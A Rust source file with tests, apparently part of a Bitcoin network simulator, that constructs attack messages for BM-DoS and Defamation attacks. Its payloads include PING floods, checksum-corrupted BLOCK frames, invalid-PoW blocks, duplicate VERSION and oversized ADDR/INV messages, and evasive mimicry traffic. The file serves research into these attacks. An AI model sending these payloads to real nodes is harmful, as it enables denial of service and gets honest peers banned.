//! Attack payload construction: the misbehaving, bogus and benign messages
//! the BM-DoS and Defamation attacks transmit.
//!
//! A flood message is framed once into the buffer that goes on the wire:
//! [`FloodPayload::build`] returns the [`Bytes`] that
//! [`Message::to_frame`] encoded, and the flood engine hands that handle
//! to the transport by value, so a message is encoded once, hashed once
//! and never copied on the attacker's side.

use btc_netsim::packet::SockAddr;
use btc_wire::block::{Block, BlockHeader};
use btc_wire::constants::{MAX_ADDR_TO_SEND, MAX_INV_SZ};
use btc_wire::message::{Message, RawMessage, VersionMessage};
use btc_wire::types::{Hash256, InvType, Inventory, NetAddr, Network, TimestampedAddr};
use btc_wire::bytes::Bytes;

/// Which message a flood sends each tick.
#[derive(Clone, Debug, PartialEq)]
pub enum FloodPayload {
    /// BM-DoS vector 1: `PING` — a message type with **no ban-score rule**;
    /// the victim must process every one and can never punish the sender.
    Ping,
    /// BM-DoS vector 2: a `BLOCK` frame with a deliberately **corrupted
    /// checksum**. The victim pays the `sha256d` pass over `payload_bytes`
    /// of junk and drops the frame *before* misbehavior tracking runs.
    BogusChecksumBlock {
        /// Size of the junk payload.
        payload_bytes: usize,
    },
    /// BM-DoS vector 3 fuel: a structurally complete block whose PoW is
    /// impossible — `Misbehaving(100)` on sight, used with serial Sybil
    /// reconnection.
    InvalidPowBlock,
    /// The Figure-8 Defamation workload: duplicate `VERSION` messages,
    /// +1 ban score each, 100 to a ban.
    DuplicateVersion,
    /// Oversized `ADDR` (+20 each, 5 to a ban).
    OversizeAddr,
    /// Oversized `INV` (+20 each, 5 to a ban).
    OversizeInv,
    /// A fresh, valid transaction (mimicry traffic for the evasive
    /// attacker — indistinguishable from honest relay).
    BenignTx,
    /// A single-entry `INV` announcing an unknown txid (mimicry traffic).
    BenignInv,
    /// Any fixed raw frame (escape hatch for custom vectors).
    Custom(RawMessage),
}

impl FloodPayload {
    /// Builds the wire bytes of one flood message.
    ///
    /// `from`/`to` parameterize messages that embed addresses
    /// (`VERSION`); `nonce` decorrelates messages that carry one.
    ///
    /// Every well-formed variant is [`Message::to_frame`]: the payload is
    /// encoded once, straight after its header, into the one buffer the
    /// returned [`Bytes`] owns, which a sender hands to `Ctx::send_bytes`
    /// without a copy. Only the frames a [`Message`] cannot represent
    /// (`BogusChecksumBlock`, `Custom`) go through [`RawMessage`].
    pub fn build(&self, network: Network, from: SockAddr, to: SockAddr, nonce: u64) -> Bytes {
        match self {
            FloodPayload::Ping => Message::Ping(nonce).to_frame(network),
            FloodPayload::BogusChecksumBlock { payload_bytes } => {
                // Junk payload: never decoded, so contents are irrelevant —
                // only the checksum pass's cost matters.
                let junk = vec![0xAB; *payload_bytes];
                RawMessage::frame_raw(network, "block", Bytes::from(junk))
                    .corrupt_checksum()
                    .to_bytes()
            }
            FloodPayload::InvalidPowBlock => {
                let mut block = Block {
                    header: BlockHeader {
                        // Mainnet-hard target: `check_pow` cannot pass.
                        bits: 0x1d00_ffff,
                        nonce: nonce as u32,
                        ..BlockHeader::default()
                    },
                    txs: vec![btc_wire::Transaction::coinbase(50, &nonce.to_le_bytes())],
                };
                block.header.merkle_root = block.merkle_root();
                Message::Block(block).to_frame(network)
            }
            FloodPayload::DuplicateVersion => {
                let v = VersionMessage::new(
                    NetAddr::new(from.ip, from.port),
                    NetAddr::new(to.ip, to.port),
                    nonce,
                );
                Message::Version(v).to_frame(network)
            }
            FloodPayload::OversizeAddr => {
                let entries = (0..=MAX_ADDR_TO_SEND as u32)
                    .map(|i| TimestampedAddr {
                        time: i,
                        addr: NetAddr::new(i.to_le_bytes(), 8333),
                    })
                    .collect();
                Message::Addr(entries).to_frame(network)
            }
            FloodPayload::OversizeInv => {
                let entries = (0..=MAX_INV_SZ as u32)
                    .map(|i| {
                        Inventory::new(InvType::Tx, Hash256::hash(&i.to_le_bytes()))
                    })
                    .collect();
                Message::Inv(entries).to_frame(network)
            }
            FloodPayload::BenignTx => {
                let tx = btc_wire::Transaction::new(
                    2,
                    vec![btc_wire::tx::TxIn::new(btc_wire::tx::OutPoint::new(
                        Hash256::hash(&nonce.to_le_bytes()),
                        0,
                    ))],
                    vec![btc_wire::tx::TxOut::new(
                        1_000 + (nonce % 50_000) as i64,
                        vec![0x51],
                    )],
                    0,
                );
                Message::Tx(tx).to_frame(network)
            }
            FloodPayload::BenignInv => {
                let inv = vec![Inventory::new(
                    InvType::Tx,
                    Hash256::hash(&nonce.wrapping_mul(0x9E37).to_le_bytes()),
                )];
                Message::Inv(inv).to_frame(network)
            }
            FloodPayload::Custom(raw) => raw.to_bytes(),
        }
    }

    /// Approximate wire size of one message (used by the socket model's
    /// bandwidth cap).
    pub fn wire_size(&self, network: Network) -> usize {
        self.build(network, SockAddr::default(), SockAddr::default(), 0)
            .len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use btc_wire::encode::DecodeError;
    use btc_wire::message::{decode_frame, read_frame, FrameResult};

    const NET: Network = Network::Regtest;

    fn parse(bytes: &[u8]) -> Result<Message, DecodeError> {
        match read_frame(NET, bytes)? {
            FrameResult::Frame { raw, .. } => decode_frame(&raw),
            FrameResult::Incomplete => panic!("incomplete"),
        }
    }

    #[test]
    fn ping_payload_is_valid_wire() {
        let b = FloodPayload::Ping.build(NET, SockAddr::default(), SockAddr::default(), 7);
        assert_eq!(parse(&b).unwrap(), Message::Ping(7));
    }

    #[test]
    fn bogus_block_fails_checksum_only() {
        let b = FloodPayload::BogusChecksumBlock { payload_bytes: 1000 }.build(
            NET,
            SockAddr::default(),
            SockAddr::default(),
            0,
        );
        // Frame parses (magic, length fine) but checksum verification fails.
        assert!(matches!(parse(&b), Err(DecodeError::BadChecksum { .. })));
        assert_eq!(b.len(), 24 + 1000);
    }

    #[test]
    fn invalid_pow_block_decodes_but_fails_check() {
        let b =
            FloodPayload::InvalidPowBlock.build(NET, SockAddr::default(), SockAddr::default(), 1);
        let Message::Block(block) = parse(&b).unwrap() else {
            panic!("not a block")
        };
        assert_eq!(block.check(), Err("high-hash"));
    }

    #[test]
    fn duplicate_version_is_well_formed() {
        let from = SockAddr::new([9, 9, 9, 9], 50_000);
        let to = SockAddr::new([10, 0, 0, 1], 8333);
        let b = FloodPayload::DuplicateVersion.build(NET, from, to, 3);
        let Message::Version(v) = parse(&b).unwrap() else {
            panic!("not version")
        };
        assert_eq!(v.addr_from.ip, [9, 9, 9, 9]);
        assert_eq!(v.nonce, 3);
    }

    #[test]
    fn oversize_payloads_exceed_limits() {
        let b = FloodPayload::OversizeAddr.build(NET, SockAddr::default(), SockAddr::default(), 0);
        let Message::Addr(list) = parse(&b).unwrap() else {
            panic!()
        };
        assert_eq!(list.len() as u64, MAX_ADDR_TO_SEND + 1);
        let b = FloodPayload::OversizeInv.build(NET, SockAddr::default(), SockAddr::default(), 0);
        let Message::Inv(list) = parse(&b).unwrap() else {
            panic!()
        };
        assert_eq!(list.len() as u64, MAX_INV_SZ + 1);
    }

    #[test]
    fn build_matches_raw_message_framing() {
        // The oracle is the two-buffer path `build` used before it framed
        // with `Message::to_frame`: `RawMessage::frame(..).to_bytes()` of
        // the message the frame carries.
        let from = SockAddr::new([9, 9, 9, 9], 50_000);
        let to = SockAddr::new([10, 0, 0, 1], 8333);
        let bogus = FloodPayload::BogusChecksumBlock { payload_bytes: 100 };
        let custom = RawMessage::frame_raw(NET, "nonsense", Bytes::from(vec![1, 2, 3]));
        let variants = [
            FloodPayload::Ping,
            bogus.clone(),
            FloodPayload::InvalidPowBlock,
            FloodPayload::DuplicateVersion,
            FloodPayload::OversizeAddr,
            FloodPayload::OversizeInv,
            FloodPayload::BenignTx,
            FloodPayload::BenignInv,
            FloodPayload::Custom(custom.clone()),
        ];
        for network in [Network::Mainnet, Network::Regtest] {
            for nonce in [0, 1, u64::MAX] {
                for p in &variants {
                    let built = p.build(network, from, to, nonce);
                    let oracle = if *p == bogus {
                        RawMessage::frame_raw(network, "block", Bytes::from(vec![0xAB; 100]))
                            .corrupt_checksum()
                            .to_bytes()
                    } else if *p == FloodPayload::Custom(custom.clone()) {
                        custom.to_bytes()
                    } else {
                        let Ok(FrameResult::Frame { raw, .. }) = read_frame(network, &built) else {
                            panic!("{p:?} on {network:?} is not one frame");
                        };
                        RawMessage::frame(network, &decode_frame(&raw).unwrap()).to_bytes()
                    };
                    assert_eq!(built, oracle, "{p:?} {network:?} nonce {nonce}");
                }
            }
        }
    }

    #[test]
    fn nonces_decorrelate_messages() {
        let a = FloodPayload::Ping.build(NET, SockAddr::default(), SockAddr::default(), 1);
        let b = FloodPayload::Ping.build(NET, SockAddr::default(), SockAddr::default(), 2);
        assert_ne!(a, b);
    }
}
